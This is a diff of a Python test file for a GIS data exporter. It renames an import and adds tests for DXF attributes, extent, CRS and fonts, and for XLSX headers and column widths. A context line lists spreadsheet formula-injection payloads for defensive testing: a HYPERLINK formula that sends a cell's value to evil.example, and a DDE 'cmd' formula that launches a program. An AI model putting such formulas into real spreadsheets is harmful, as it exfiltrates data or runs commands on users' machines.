@@ -40,7 +40,7 @@ from export.formats import (
     xlsx_layer_bytes,
 )
 from gis.crs import gcj02_to_wgs84
-from ingest import importers as imp
+from ingest import readers as imp
 
 META = ExportMeta(title="测试导出", exported="2026-11-26")
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
@@ -397,3 +397,43 @@ def test_a_geometry_collection_a_repair_left_is_written_as_its_polygons(fmt, tmp
         back = gpd.read_file(path, engine="pyogrio")
         assert list(back.geom_type) == ["MultiPolygon"] or list(back.geom_type) == ["Polygon"]
         assert back.geometry.iloc[0].area == pytest.approx(1e-4, rel=1e-3)
+
+
+def test_dxf_carries_attributes_extent_visible_points_and_its_crs(data, tmp_path):
+    """What a CAD user needs without a GIS: every attribute (XDATA), the drawing opening on the data, stations
+    that show, the coordinate system said in the header, a TrueType Chinese style beside the SHX one."""
+    path = tmp_path / "cad.dxf"
+    path.write_bytes(dxf_bytes({"subparks": data.subparks, "stations": data.stations}, meta=META,
+                               layer_names={"subparks": "子园", "stations": "地铁站"}))
+    doc = ezdxf.readfile(path)
+    msp = doc.modelspace()
+    first = next(e for e in msp.query("LWPOLYLINE[layer=='子园']"))
+    fields = dict(text.split("=", 1) for _, text in first.get_xdata("PUTUO"))
+    assert fields["id"] in set(data.subparks["id"]) and fields["name_zh"] in set(data.subparks["name_zh"])
+    assert fields["cluster"] in {"north", "south"}
+    (x0, y0, _), (x1, y1, _) = doc.header["$EXTMIN"], doc.header["$EXTMAX"]
+    xs, ys = zip(*(p for e in msp.query("LWPOLYLINE") for p in e.get_points("xy")))
+    assert x0 <= min(xs) and max(xs) <= x1 and y0 <= min(ys) and max(ys) <= y1 and x1 - x0 < 50_000
+    assert doc.header["$LIMMAX"][0] == pytest.approx(x1) and doc.header["$PDMODE"] == 34 and doc.header["$PDSIZE"] > 0
+    assert "EPSG:4549" in doc.header.custom_vars.get("CRS")
+    assert doc.styles.get("PUTUO_CJK_TTF").dxf.font == "simsun.ttc"
+    assert len(msp.query("POINT[layer=='地铁站']")) == len(data.stations)
+    back = pyogrio.read_dataframe(path)  # GIS readers still see one point per station
+    assert (back["Layer"] == "地铁站").sum() >= len(data.stations)
+
+
+def test_xlsx_of_a_text_only_layer_opens_in_gdal_with_its_header_and_readable_widths(data, tmp_path):
+    """Roads are text columns only: GDAL must still see the header (not Field1…), and columns are wide enough."""
+    import openpyxl
+
+    from export.formats import xlsx_layer_bytes
+
+    path = tmp_path / "roads.xlsx"
+    path.write_bytes(xlsx_layer_bytes(data.roads, target="wgs84", geometry="wkt", meta=META, sheet="roads"))
+    back = pyogrio.read_dataframe(path, read_geometry=False)
+    assert "name_zh" in back.columns and not any(c.startswith("Field") for c in back.columns)
+    assert len(back) == len(data.roads)
+    sheet = openpyxl.load_workbook(path).active
+    widths = {sheet.cell(1, k).value: sheet.column_dimensions[openpyxl.utils.get_column_letter(k)].width
+              for k in range(1, sheet.max_column + 1)}
+    assert widths["name_zh"] >= 2 * max(len(n) for n in data.roads["name_zh"]) and widths["wkt"] == 60
